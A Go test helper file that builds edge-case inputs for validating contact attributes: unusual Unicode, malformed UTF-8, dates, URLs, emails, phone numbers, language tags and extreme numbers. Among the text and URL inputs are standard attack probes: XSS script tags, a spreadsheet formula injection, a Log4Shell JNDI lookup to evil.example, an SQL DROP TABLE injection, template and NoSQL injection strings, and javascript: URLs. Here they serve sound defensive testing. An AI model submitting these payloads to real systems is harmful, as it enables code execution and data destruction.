package contact_test

import (
	"fmt"
	"math"
	"strings"
	"time"

	"contactpanel/contact"
)

// anyText is what people, programs and attackers write where a text is asked for.
func anyText() []string {
	family := "👨\u200d👩\u200d👧\u200d👦"
	return []string{
		"", " ", "\t\n", "a", "ab", "abc def", "Zoë", "\u200b", "\u3164", "\u2800", "\u00ad", "e\u0301", "\u0301", "ab\r\ncd\r\refg", "\x00", "ab\x00", "\x1b[31mred\x1b[0m", "\x7f", "\u0085", "\ufffe", "\U0001ffff",
		"\xff", "\xed\xa0\xbd\xed\xb8\x80", "\xed\xa0\xbd", "\xc0\xaf", "\xf4\x90\x80\x80", "\xe2\x82", "\ufffd", "\ufeffab", "\u202eevil", "\u2066open", "a\U000e0061\U000e007f", "\u2028", "می\u200cخواهم", "\ufdfd",
		"Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f", strings.Repeat("a", 2000), strings.Repeat("a", 10_001), strings.Repeat("😀", 2000), strings.Repeat(family, 286), strings.Repeat("e\u0301", 1000),
		"a" + strings.Repeat("\u0301", 2000), strings.Repeat("x\r\n", 1001), "<script>alert(1)</script>", "**bold**", "=cmd|' /C calc'!A0", "${jndi:ldap://evil.example/a}", "{{7*7}}", "'; DROP TABLE contacts; --", "%00",
		`{"$ne":null}`, "__proto__", "a|a", "ab|cd", "ab|cd|ab", "1|2|3|4", strings.Repeat("|", 50), "true", "nothing",
	}
}

// textsOf are what they write where a value of a type is asked for.
func textsOf(t contact.ValueType) []string {
	switch t {
	case contact.TypeBoolean:
		return []string{"true", "false", "true|false"}
	case contact.TypeDate, contact.TypeDateTime:
		return []string{
			"31.02.2026", "2026-02-31", "2024-02-29", " 2026-01-01 ", "0000-01-01", "10000-01-01", "-2026-01-01", "２０２６-01-01", "2026-1-1", "2026-01-01T00:00:00Z", "2026-03-04T13:59:59.1239+02:00", "2026-03-04T12:00:00Z",
			"2026-12-31T23:59:60Z", "9999-12-31T23:59:59-23:00", "0001-01-01T00:00:00+23:59", "2026-01-01T24:00:00Z", "2026-01-01 00:00:00", "2026-01-01T00:00:00,5Z",
		}
	case contact.TypeURL:
		return []string{
			"javascript:alert(1)", "JAVASCRIPT:alert(1)", "https://example.com", "HTTPS://EXAMPLE.COM", "https://bücher.example/ü?a=b#c", "http://[::1]:80/", "http://[fe80::1%25en0]/", "https://user:pw@example.com", `https://example.com\@evil.example`,
			"//example.com", "https://example.com/\xff", "https://example.com/\ufffd", "https:///path", "https://exa mple.com", "https://example.com/%zz", "https://example.com/%00", "https://\u202eexample.com", "http://e.example/" + strings.Repeat("a", 2031), "http://e.example/" + strings.Repeat("é", 1100),
		}
	case contact.TypeEmail:
		return []string{
			"a\xff@b.example", "a@b\xff.example", "\ufffd@b.example", "a@b.example", "A@B.EXAMPLE", "Rita.O'Hara+x@Bücher.example", "a@xn--bcher-kva.example", "a@b", "a@b@c.example", `"a b"@c.example`, "a@[127.0.0.1]", "@", "é@b.example", "e\u0301@b.example", "用户@例子.广告", "a@b.example|A@b.example",
			strings.Repeat("a", 64) + "@" + strings.Repeat("abcdefghi.", 18) + "de", strings.Repeat("a", 65) + "@b.example", "a@" + strings.Repeat("é", 550), "İ@b.example", "ß@b.example", "a@faß.example", "a@İ.example", "a@xn--a.example",
		}
	case contact.TypePhone:
		return []string{
			"030 23125000\xff", "030 23125000", "(030) 23125-000", "+49 30 23125000", "+1 202-555-0100", "0049 30 23125000", "+49 (0) 30 23125000", "1-800-FLOWERS", "+4930231250001234567890", "110", "+", "٠٣٠٢٣١٢٥٠٠٠", "+49 30 23125000 ext. 5", "tel:+49-30-23125000", "030 23125000|+49 30 23125000",
		}
	case contact.TypeLanguage:
		return []string{
			"de", "de_at", "DE-at", "zh-Hant-TW", "x-private", "i-klingon", "qaa", "en-US-u-ca-buddhist", "art-lojban", "und", "no", "nb", "iw", "de-AT-1996-x-a", strings.Repeat("a-", 500),
		}
	case contact.TypeChoice:
		return []string{"red", "grey", "RED", "blue|red"}
	default:
		return []string{"Bonn", "Bonn, Beuel", "Bonn Beuel", "1|2"}
	}
}

// anyNumber are numbers at the edges of what a value may be.
func anyNumber() []float64 {
	return []float64{
		0, math.Copysign(0, -1), 1, -1, 17.25, 1.005, 0.123456789012345, 0.1234567890123456, 1e-300, math.SmallestNonzeroFloat64, 1<<53 - 1, 1 << 53, 1<<53 + 2, -(1 << 53), 1e308, math.MaxFloat64, math.Inf(1), math.Inf(-1), math.NaN(), 90, -90.0000001, 180, 180.5, 50.7374, 1000.5,
	}
}

// written makes the value of a type that a caller would write with these members.
func written(t contact.ValueType, s string, a, b float64) contact.ValueInput {
	switch t {
	case contact.TypeNumber:
		return number(a)
	case contact.TypeBoolean:
		return boolean(s == "true")
	case contact.TypeDate:
		return date(s)
	case contact.TypeDateTime:
		return dateTime(s)
	case contact.TypeURL:
		return address(s)
	case contact.TypeEmail:
		return email(s)
	case contact.TypePhone:
		return dial(s)
	case contact.TypeLanguage:
		return tongue(s)
	case contact.TypeLocation:
		return [...]contact.ValueInput{place(s), place(s, a), place(s, a, b)}[len(s)%3]
	case contact.TypeChoice:
		return choice(s)
	default:
		return text(s)
	}
}

// writtenAgain is how a caller writes a value that was read.
func writtenAgain(v contact.AttributeValue) contact.ValueInput {
	switch v := v.(type) {
	case contact.TextValue:
		return text(v.Text)
	case contact.NumberValue:
		return number(v.Number)
	case contact.BooleanValue:
		return boolean(v.Boolean)
	case contact.DateValue:
		return date(v.Date.String())
	case contact.DateTimeValue:
		return dateTime(v.DateTime.Format(time.RFC3339Nano))
	case contact.URLValue:
		return address(v.URL)
	case contact.EmailValue:
		return email(v.Email)
	case contact.PhoneValue:
		return dial(v.Phone.E164)
	case contact.LanguageValue:
		return tongue(v.Language.Tag)
	case contact.LocationValue:
		return contact.ValueInput{Location: &v.Location}
	case contact.ChoiceValue:
		return choice(v.Choice.Key)
	default:
		return contact.ValueInput{}
	}
}

// meaning is what a value says, whatever the white space around it; of a phone number and a language that they are there.
func meaning(v contact.ValueInput) string {
	switch {
	case v.Number != nil:
		return fmt.Sprint(*v.Number)
	case v.Boolean != nil:
		return fmt.Sprint(*v.Boolean)
	case v.DateTime != nil:
		at, err := time.Parse(time.RFC3339Nano, strings.TrimSpace(*v.DateTime))
		return fmt.Sprint(at.UTC().Truncate(time.Millisecond), err)
	case v.Phone != nil, v.Language != nil:
		return "there"
	case v.Location != nil:
		said := strings.TrimSpace(v.Location.Name)
		if at := v.Location; at.Latitude != nil && at.Longitude != nil {
			said += fmt.Sprint(*at.Latitude, *at.Longitude)
		}
		return said
	default:
		for _, s := range []*string{v.Text, v.Date, v.URL, v.Email, v.Choice} {
			if s != nil {
				return strings.TrimSpace(strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(*s))
			}
		}
		return "nothing"
	}
}
